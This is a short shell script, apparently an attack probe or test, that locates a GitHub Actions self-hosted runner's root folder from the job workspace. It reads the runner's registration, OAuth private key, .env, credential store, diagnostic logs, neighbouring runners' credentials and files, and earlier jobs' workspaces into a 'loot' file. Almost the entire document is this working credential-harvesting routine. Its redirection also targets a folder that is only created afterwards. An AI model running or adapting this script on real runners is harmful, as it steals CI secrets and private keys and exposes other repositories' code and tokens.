# Reads a self-hosted runner's own credentials: its registration, its
# OAuth client's private key, the .env its start script gives every job,
# the copies a migration leaves, its credential store, its diagnostic
# logs and what other runners of the same user beside it keep, in the folder above
# the work folder that holds the job's workspace, and the earlier jobs'
# workspaces in that work folder.
set +e # an attacker keeps going when a step is refused
root=$(dirname "$(dirname "$(dirname "$GITHUB_WORKSPACE")")")
{
  echo "runner root: $root"
  cat "$root/.runner" "$root/.credentials" "$root/.credentials_rsaparams"
  cat "$root/.env" "$root/.credentials_migrated" "$root/.credential_store"
  # Other runners of the same user beside it: their credentials, and the
  # jobs they run now (checkouts, actions/checkout's token file).
  for other in "$(dirname "$root")"/*/; do
    [ "$other" = "$root/" ] && continue
    echo "other runner: $other"
    cat "$other/.runner" "$other/.credentials"
    find "$other/_work" -type f -exec cat {} +
  done
  cat "$root"/_diag/*
  # The runner's own work folder: the workspaces of earlier jobs, other
  # repositories' among them, beside this job's.
  find "$root/_work" -path "$(dirname "$GITHUB_WORKSPACE")" -prune -o -type f -exec cat {} +
  ls -A "$root"
} > a/loot.txt 2>&1
mkdir -p a && echo "T1 was here" > a/t1.txt
